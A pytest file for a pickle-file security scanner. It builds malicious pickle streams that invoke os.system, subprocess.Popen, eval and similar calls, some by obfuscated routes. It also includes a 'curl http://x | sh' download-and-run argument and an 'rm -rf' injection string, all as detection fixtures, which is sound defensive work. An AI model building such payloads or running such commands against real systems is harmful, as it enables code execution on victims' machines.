"""The symbolic pickle machine on hand-built and stdlib-pickled streams (never unpickled)."""

import io
import pickle
import pickletools
from collections import OrderedDict
from pathlib import Path

import pytest

from aiwarden.core.findings import Severity
from aiwarden.scan.pkl.values import Global
from aiwarden.scan.pkl.vm import Machine, run_stream
from tests.helpers import (
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    MEMOIZE,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    binbytes,
    binget,
    binput,
    by_rule,
    call,
    glob,
    proto,
    rules,
    scan_bytes_file,
    uni,
)


def _trace(data: bytes):
    return Machine(io.BytesIO(data)).run()


@pytest.mark.parametrize("protocol", range(6))
def test_every_protocol_of_plain_data_is_clean(tmp_path: Path, protocol: int) -> None:
    value = {"a": [1, 2.5, "x", b"y", None, True], "b": (1, 2), "c": {3, 4}, "d": OrderedDict(k=1), "e": 10**30}
    data = pickle.dumps(value, protocol=protocol)
    trace = _trace(data)
    assert trace.completed and trace.stops == 1
    report = scan_bytes_file(tmp_path, data)
    assert report.scanned and not rules(report, Severity.MEDIUM)


def test_all_opcodes_known_to_pickletools_are_handled() -> None:
    # Every opcode of the stdlib's table decodes without "invalid opcode" in a real stream.
    value = [frozenset({1}), bytearray(b"ab"), 1.5, -(2**70), "é" * 300, {"k": (1, 2, 3)}]
    for protocol in range(6):
        data = pickle.dumps(value, protocol=protocol)
        ops = {op.name for op, _, _ in pickletools.genops(data)}
        trace = _trace(data)
        assert trace.completed, (protocol, ops, trace.anomalies)


def test_stack_global_resolved_from_memo() -> None:
    # The module string is memoized, then fetched back: a backwards opcode walk sees BINGET, not a string.
    data = (proto(4) + uni("posix") + MEMOIZE + uni("junk") + b"0" + binget(0) + uni("system") + STACK_GLOBAL
            + uni("echo") + TUPLE1 + REDUCE + STOP)
    trace = _trace(data)
    assert [(g.module, g.name) for g in trace.globals] == [("posix", "system")]
    assert trace.calls and isinstance(trace.calls[0].func, Global)


def test_computed_stack_global_is_critical(tmp_path: Path) -> None:
    # Operands produced by a call are not literal strings: unresolvable, which is critical.
    inner = glob("builtins", "str") + MARK + uni("os") + TUPLE + REDUCE
    data = proto(4) + inner + uni("system") + STACK_GLOBAL + MARK + uni("id") + TUPLE + REDUCE + STOP
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.unresolved-global" in rules(report, Severity.CRITICAL)


def test_keeps_going_after_malformed_opcode(tmp_path: Path) -> None:
    data = call("os", "system", "id")[:-1] + b"\xff\xfe" + STOP
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.dangerous-call" in rules(report, Severity.CRITICAL)
    assert by_rule(report, "pickle.malformed")


def test_stacked_pickles_second_one_scanned(tmp_path: Path) -> None:
    data = pickle.dumps({"fine": 1}, protocol=2) + call("subprocess", "Popen", "id")
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.dangerous-call" in rules(report, Severity.CRITICAL)


def test_nested_pickle_in_loads_argument_is_scanned(tmp_path: Path) -> None:
    inner = call("os", "system", "id")
    data = proto(2) + glob("pickle", "loads") + MARK + binbytes(inner) + TUPLE + REDUCE + STOP
    report = scan_bytes_file(tmp_path, data)
    members = {f.location.member for f in by_rule(report, "pickle.dangerous-call")}
    assert any(m and m.startswith("nested@") for m in members)


def test_dotted_name_through_allowed_module(tmp_path: Path) -> None:
    data = proto(4) + uni("torch") + uni("os.system") + STACK_GLOBAL + MARK + uni("id") + TUPLE + REDUCE + STOP
    report = scan_bytes_file(tmp_path, data)
    [finding] = by_rule(report, "pickle.dangerous-call")
    assert finding.severity is Severity.CRITICAL and "os" in finding.message


def test_build_on_a_global_is_critical(tmp_path: Path) -> None:
    data = proto(2) + glob("numpy", "core") + EMPTY_DICT + uni("x") + uni("y") + SETITEM + BUILD + STOP
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.state-on-global" in rules(report, Severity.CRITICAL)


def test_setitem_on_a_list_is_structure_abuse(tmp_path: Path) -> None:
    data = proto(2) + EMPTY_LIST + uni("k") + uni("v") + SETITEM + STOP
    report = scan_bytes_file(tmp_path, data)
    [finding] = by_rule(report, "pickle.structure-abuse")
    assert finding.severity is Severity.MEDIUM


def test_unknown_callable_called_at_load_is_high_and_code_like_args_high(tmp_path: Path) -> None:
    plain = scan_bytes_file(tmp_path, call("mypackage.layers", "Thing", "relu"), "a.pkl")
    assert rules(plain, Severity.HIGH) == {"pickle.unknown-call"}
    shell = scan_bytes_file(tmp_path, call("mlflow_like.util", "run", "curl http://x | sh"), "b.pkl")
    assert "pickle.suspicious-argument" in rules(shell, Severity.HIGH)


def test_memo_get_of_missing_slot_is_reported() -> None:
    trace = _trace(proto(2) + binget(7) + STOP)
    assert any("memo slot 7" in a.message for a in trace.anomalies)


def test_memo_put_get_round_trip() -> None:
    data = proto(2) + uni("a") + binput(1) + b"0" + binget(1) + STOP
    assert _trace(data).result == "a"


def test_run_stream_stops_at_non_pickle_tail() -> None:
    data = pickle.dumps([1], protocol=2) + b"\x00\x01\x02 raw tensor bytes"
    traces = run_stream(io.BytesIO(data))
    assert len(traces) == 1


def test_numpy_ufunc_resolver_is_safe_only_for_numpy_names(tmp_path: Path) -> None:
    ok = scan_bytes_file(tmp_path, call("numpy.core", "_ufunc_reconstruct", "numpy", "log1p"), "ok.pkl")
    assert not rules(ok, Severity.HIGH)
    bad = scan_bytes_file(tmp_path, call("numpy.core", "_ufunc_reconstruct", "os", "system"), "bad.pkl")
    assert "pickle.dangerous-call" in rules(bad, Severity.CRITICAL)


def test_huge_bytes_are_skipped_not_loaded(tmp_path: Path) -> None:
    payload = b"B" + (64 * 1024 * 1024).to_bytes(4, "little")
    path = tmp_path / "big.pkl"
    with open(path, "wb") as f:
        f.write(proto(2) + payload)
        f.seek(64 * 1024 * 1024 - 1, 1)
        f.write(b"\0" + STOP)
    with open(path, "rb") as f:
        trace = Machine(f).run()
    assert trace.completed


def test_dangerous_global_handed_to_another_call_is_critical(tmp_path: Path) -> None:
    # copyreg._reconstructor(cls, base, state) runs base.__init__: Popen.__init__ starts a process.
    data = (proto(2) + glob("copyreg", "_reconstructor") + MARK + glob("builtins", "object")
            + glob("subprocess", "Popen") + uni("id") + TUPLE + REDUCE + STOP)
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.dangerous-call" in rules(report, Severity.CRITICAL)


def test_distributed_checkpoint_metadata_is_not_high(tmp_path: Path) -> None:
    data = call("torch.distributed.checkpoint.metadata", "ChunkStorageMetadata", "x")
    assert not rules(scan_bytes_file(tmp_path, data), Severity.HIGH)
    rpc = call("torch.distributed.rpc", "rpc_sync", "worker")
    assert rules(scan_bytes_file(tmp_path, rpc, "rpc.pkl"), Severity.CRITICAL)


def test_python2_names_are_judged_as_the_unpickler_maps_them(tmp_path: Path) -> None:
    # torch.save (protocol 2) writes range as __builtin__.xrange: fix_imports maps it to builtins.range.
    data = proto(2) + glob("__builtin__", "xrange") + MARK + b"K\x03" + TUPLE + REDUCE + STOP
    assert not rules(scan_bytes_file(tmp_path, data, "a.pkl"), Severity.MEDIUM)
    evil = proto(2) + glob("__builtin__", "eval") + MARK + uni("1") + TUPLE + REDUCE + STOP
    assert "pickle.dangerous-call" in rules(scan_bytes_file(tmp_path, evil, "b.pkl"), Severity.CRITICAL)


def test_getattr_of_a_safe_attribute_and_type_of_none(tmp_path: Path) -> None:
    zone = (proto(2) + glob("builtins", "getattr") + MARK + glob("zoneinfo", "ZoneInfo") + uni("_unpickle")
            + TUPLE + REDUCE + MARK + uni("UTC") + b"K\x01" + TUPLE + REDUCE + STOP)
    assert not rules(scan_bytes_file(tmp_path, zone, "z.pkl"), Severity.MEDIUM)
    none_type = proto(2) + glob("builtins", "type") + MARK + b"N" + TUPLE + REDUCE + STOP
    assert not rules(scan_bytes_file(tmp_path, none_type, "n.pkl"), Severity.MEDIUM)
    evil = (proto(2) + glob("builtins", "getattr") + MARK + glob("os", "path") + uni("__globals__")
            + TUPLE + REDUCE + STOP)
    assert rules(scan_bytes_file(tmp_path, evil, "e.pkl"), Severity.CRITICAL)


def test_partial_is_judged_by_the_function_it_wraps(tmp_path: Path) -> None:
    benign = proto(2) + glob("functools", "partial") + MARK + glob("thinc.layers", "forward") + TUPLE + REDUCE + STOP
    assert max(f.severity for f in scan_bytes_file(tmp_path, benign, "p.pkl").findings) is Severity.MEDIUM
    evil = proto(2) + glob("functools", "partial") + MARK + glob("os", "system") + uni("id") + TUPLE + REDUCE + STOP
    assert rules(scan_bytes_file(tmp_path, evil, "q.pkl"), Severity.CRITICAL)


def test_bytes_arguments_are_not_read_as_code(tmp_path: Path) -> None:
    data = proto(2) + glob("mylib", "unpickle") + MARK + binbytes(b"&& rm -rf || $(x)") + TUPLE + REDUCE + STOP
    report = scan_bytes_file(tmp_path, data)
    assert "pickle.suspicious-argument" not in {f.rule_id for f in report.findings}
    assert rules(report, Severity.HIGH) == {"pickle.unknown-call"}


@pytest.mark.parametrize("length", [2**62, 2**63 - 1, 2**64 - 1])
def test_a_length_beyond_any_file_is_a_truncated_stream_not_a_read_error(tmp_path: Path, length: int) -> None:
    # BINBYTES8 with a length lseek refuses: the loader fails there, after running what came before
    data = b"\x80\x04" + call("os", "system", "x")[2:-1] + b"\x8e" + length.to_bytes(8, "little") + b"abc."
    report = scan_bytes_file(tmp_path, data, "big-length.pkl")
    assert report.errors == []
    assert "pickle.dangerous-call" in rules(report, Severity.CRITICAL)
    assert "pickle.malformed" in rules(report)
